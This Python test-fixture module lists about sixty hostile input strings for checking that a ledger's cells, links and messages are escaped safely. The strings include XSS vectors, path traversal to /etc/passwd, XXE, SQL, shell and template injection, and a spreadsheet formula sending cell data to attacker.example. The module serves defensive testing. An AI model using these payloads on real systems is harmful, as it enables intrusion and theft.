"""
Sixty hostile texts for a cell, a link or a message: each a name and the text.

A text that runs as a script calls ``top.__ran.push(0)``; tests in a browser look whether it
has. The last ones fail the check of the ledger (control characters, reversed direction,
stacks of marks); they are for what prints a file that has not been checked.
"""

from __future__ import annotations

from typing import NamedTuple

_RUN = "top.__ran.push(0)"


class Payload(NamedTuple):
    """One hostile text."""

    name: str
    text: str


_MARKUP = (
    ("image", f"<img src=data:,x onerror={_RUN}>"),
    ("image without a space", f"<img/src=x/onerror={_RUN}//>"),
    ("script", f"<script>{_RUN}</script>"),
    ("end of a script", f"</script><script>{_RUN}</script>"),
    ("end of a style", f"</style><script>{_RUN}</script>"),
    ("end of a title", f"</title><script>{_RUN}</script>"),
    ("end of a text area", f"</textarea><script>{_RUN}</script>"),
    ("end of a comment", f"--><script>{_RUN}</script><!--"),
    ("begin of a comment", "<!-- <b>"),
    ("svg", f"<svg onload={_RUN}>"),
    ("svg with a script", f"<svg><script>{_RUN}</script></svg>"),
    ("animated svg", f"<svg><animate onbegin={_RUN} attributeName=x dur=1s>"),
    ("details", f"<details open ontoggle={_RUN}>"),
    ("focus", f"<input autofocus onfocus={_RUN}>"),
    ("frame", f"<iframe srcdoc='<script>{_RUN}</script>'></iframe>"),
    ("object", f"<object data='javascript:{_RUN}'></object>"),
    ("base", "<base href=//attacker.example/>"),
    ("refresh", f"<meta http-equiv=refresh content='0;url=javascript:{_RUN}'>"),
    ("form", f"<form action='javascript:{_RUN}'><button>x"),
    ("link", f'<a href="javascript:{_RUN}">x</a>'),
    ("style sheet", "<link rel=stylesheet href=//attacker.example/x.css>"),
    ("marquee", f"<marquee onstart={_RUN}>x"),
    ("template", f"<template shadowrootmode=open><script>{_RUN}</script></template>"),
    ("math", f"<math><mtext><style><img src=x onerror={_RUN}></style>"),
)
_QUOTES = (
    ("end of an attribute", f'"><img src=x onerror={_RUN}>'),
    ("end of an attribute in single quotes", f"'><img src=x onerror={_RUN}>"),
    ("attribute", f'" onmouseover="{_RUN}" x="'),
    ("attribute in single quotes", f"' onmouseover='{_RUN}' x='"),
    ("backticks", f"`onmouseover={_RUN}`"),
    ("end of a string", f'";{_RUN};//'),
    ("end of a string in single quotes", f"';{_RUN};//"),
    ("backslash", f'\\";{_RUN};//'),
    ("template literal", f"${{{_RUN}}}`${{{_RUN}}}`"),
    ("entities", f"&lt;img src=x onerror={_RUN}&gt;&#60;script&#62;&amp;amp;"),
    ("end of CDATA", f"]]><script>{_RUN}</script>"),
    ("XML", '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY y SYSTEM "file:///etc/hostname">]>&y;'),
)
_ADDRESSES = (
    ("script as an address", f"javascript:{_RUN}"),
    ("script as an address, encoded", f"&#106;avascript:{_RUN}"),
    ("data address", f"data:text/html,<script>{_RUN}</script>"),
    ("other host", "//attacker.example/%2e%2e/%00"),
    ("path", "../../../../etc/passwd"),
    ("path of Windows", "..\\..\\windows\\system.ini"),
    ("header", "x%0d%0aSet-Cookie:%20a=b"),
)
_INTERPRETED = (
    ("Jinja", "{{7*7}}{% for x in y %}{# #}"),
    ("Jinja, attributes", "{{''.__class__.__mro__[1].__subclasses__()}}"),
    ("format", "{0.__class__}{version!r}%s%n%(x)s"),
    ("formula", '=HYPERLINK("http://attacker.example/?"&A1,"x")'),
    ("formula, full width", "＝cmd|'/c calc'!A0"),
    ("formula, at", "@SUM(1+1)*cmd|'/c calc'!A0"),
    ("shell", "$(touch x); `touch x` | touch x"),
    ("Markdown", f"[x](javascript:{_RUN}) ![x](//attacker.example/x.png) **`x`** :red[x] $x^2$"),
    ("SQL", "'; DROP TABLE stations; --"),
    ("number", "1e400 NaN -0 0x10 ٣"),
)
_LONG = (
    ("word without a break", "W" * 280),
    ("word without a break, wide", "漢" * 280),
    ("word without a break, right to left", "ש" * 280),
)
_UNCHECKED = (
    ("reversed direction", "\u202egnp.exe\u202c \u2066\u2067x"),
    ("stack of marks", "Z" + "\u0301\u0316\u0342\u035c" * 8 + "algo"),
    ("controls of a terminal", "\x1b]0;title\x07\x1b[2J\x9b31m\x00"),
    ("invisible letters", "in\u200bvis\u00adi\u2060ble\ufeff\ue000\U000e0041"),
)

PAYLOADS = tuple(
    Payload(name, text)
    for group in (_MARKUP, _QUOTES, _ADDRESSES, _INTERPRETED, _LONG, _UNCHECKED)
    for name, text in group
)
#: those that no cell of a checked ledger can have
UNCHECKED = tuple(Payload(name, text) for name, text in _UNCHECKED)
